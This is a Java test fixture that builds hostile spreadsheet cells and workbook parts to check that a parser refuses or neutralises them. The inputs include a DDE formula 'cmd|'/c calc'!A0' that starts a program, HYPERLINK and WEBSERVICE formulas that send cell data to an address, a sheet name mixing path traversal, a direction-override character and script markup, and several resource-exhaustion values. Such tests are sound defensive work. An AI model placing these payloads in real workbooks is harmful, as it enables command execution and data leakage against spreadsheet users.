package eu.regiometer.workbook.hostile;

import static eu.regiometer.workbook.PackageBytes.BOOK;
import static eu.regiometer.workbook.PackageBytes.SHEET;
import static eu.regiometer.workbook.PackageBytes.STRINGS;
import static eu.regiometer.workbook.PackageBytes.STYLES;
import static eu.regiometer.workbook.PackageBytes.cells;
import static eu.regiometer.workbook.PackageBytes.good;
import static eu.regiometer.workbook.PackageBytes.sheet;

import eu.regiometer.workbook.PackageBytes;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.SplittableRandom;

/** Formulas, names and values that no spreadsheet program writes, and odd ones that some do. */
final class CellCases {

    private static final String MALFORMED = "CELL-MALFORMED";

    private CellCases() {}

    static List<HostileCase> all(SplittableRandom random, String address) {
        int nested = random.nextInt(3_000, 4_001);
        int digits = random.nextInt(1_000, 1_000_001);
        String active = "<c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>3</v></c><c r=\"B1\"><f>HYPERLINK(\"" + address
                + "?\"&amp;A1)</f></c><c r=\"C1\"><f>WEBSERVICE(\"" + address + "\")</f></c>";
        String evilFormat = "<numFmts count=\"1\"><numFmt numFmtId=\"164\" formatCode=\"" + "#".repeat(5_000) + "/"
                + "?".repeat(200) + "\"/></numFmts>";
        return List.of(
                refused(33, "CELL-FORMULA-ACTIVE", "formulas that start programs or call the network", active),
                HostileCase.readable(
                        34,
                        "TEXT =cmd|'/c calc'!A0 | TEXT @SUM(1) | TEXT +1 | TEXT -1 | TEXT \t=1",
                        "texts that look like formulas: kept as text",
                        lookalikes()),
                readable(
                        35,
                        "FORMULA_WITHOUT_VALUE  (formula) | FORMULA_WITHOUT_VALUE  (formula)",
                        "formulas in a circle without stored values",
                        "<c r=\"A1\"><f>B1</f></c><c r=\"B1\"><f>A1</f></c>"),
                readable(
                        36,
                        "FORMULA_WITHOUT_VALUE  (formula)",
                        nested + " nested brackets: never parsed",
                        "<c r=\"A1\"><f>" + "(".repeat(nested) + "1" + ")".repeat(nested) + "</f></c>"),
                readable(
                        37,
                        "NUMBER 1 (formula)",
                        "formula shared by the whole sheet, one stored value",
                        "<c r=\"A1\"><f t=\"shared\" ref=\"A1:XFD1048576\" si=\"0\">1+1</f><v>1</v></c>"),
                HostileCase.refused(
                        40,
                        "SHEET-NAME",
                        "sheet name with a path, a direction sign and markup",
                        good().with(
                                        BOOK,
                                        PackageBytes.book(
                                                "<sheet name=\"../../&#x202E;a&lt;script&gt;\" sheetId=\"1\" r:id=\"rId1\"/>",
                                                ""))
                                .bytes()),
                refused(
                        43,
                        MALFORMED,
                        "numbers 1e999, NaN and 3,0",
                        "<c r=\"A1\"><v>1e999</v></c><c r=\"B1\"><v>NaN</v></c><c r=\"C1\"><v>1e308</v></c>"
                                + "<c r=\"D1\"><v>3,0</v></c>"),
                refused(
                        44,
                        MALFORMED,
                        "number of " + digits + " digits",
                        "<c r=\"A1\"><v>" + "9".repeat(digits) + "</v></c>"),
                HostileCase.readable(
                        45,
                        "NUMBER 0.123456789",
                        "absurd number format: display formats are never applied",
                        good().with(
                                        STYLES,
                                        PackageBytes.styles(
                                                evilFormat,
                                                "<cellXfs count=\"1\"><xf numFmtId=\"164\" applyNumberFormat=\"1\"/></cellXfs>"))
                                .with(SHEET, sheet("<row r=\"1\"><c r=\"A1\" s=\"0\"><v>0.123456789</v></c></row>"))
                                .bytes()),
                HostileCase.readable(
                        58,
                        "TEXT héllo | NUMBER 3",
                        "shared texts in UTF-16: allowed, they must arrive unharmed",
                        good().with(
                                        STRINGS,
                                        ("\uFEFF<?xml version=\"1.0\" encoding=\"UTF-16\"?>"
                                                        + PackageBytes.strings("<si><t>héllo</t></si>"))
                                                .getBytes(StandardCharsets.UTF_16LE))
                                .bytes()),
                refused(
                        63,
                        MALFORMED,
                        "impossible date, unknown cell type, boolean maybe",
                        "<c r=\"A1\" t=\"d\"><v>9999999-99-99</v></c><c r=\"B1\" t=\"e\"><v>#REF!</v></c>"
                                + "<c r=\"C1\" t=\"zzz\"><v>1</v></c><c r=\"D1\" t=\"b\"><v>maybe</v></c>"));
    }

    private static byte[] lookalikes() {
        String texts = "<si><t>=cmd|'/c calc'!A0</t></si><si><t>@SUM(1)</t></si><si><t>+1</t></si><si><t>-1</t></si>"
                + "<si><t>\t=1</t></si>";
        var row = new StringBuilder("<row r=\"1\">");
        for (int i = 0; i < 5; i++) {
            row.append("<c r=\"")
                    .append((char) ('A' + i))
                    .append("1\" t=\"s\"><v>")
                    .append(i)
                    .append("</v></c>");
        }
        return good().with(STRINGS, PackageBytes.strings(texts))
                .with(SHEET, sheet(row + "</row>"))
                .bytes();
    }

    private static HostileCase refused(int number, String code, String what, String cells) {
        return HostileCase.refused(number, code, what, cells(cells));
    }

    private static HostileCase readable(int number, String expected, String what, String cells) {
        return HostileCase.readable(number, expected, what, cells(cells));
    }
}
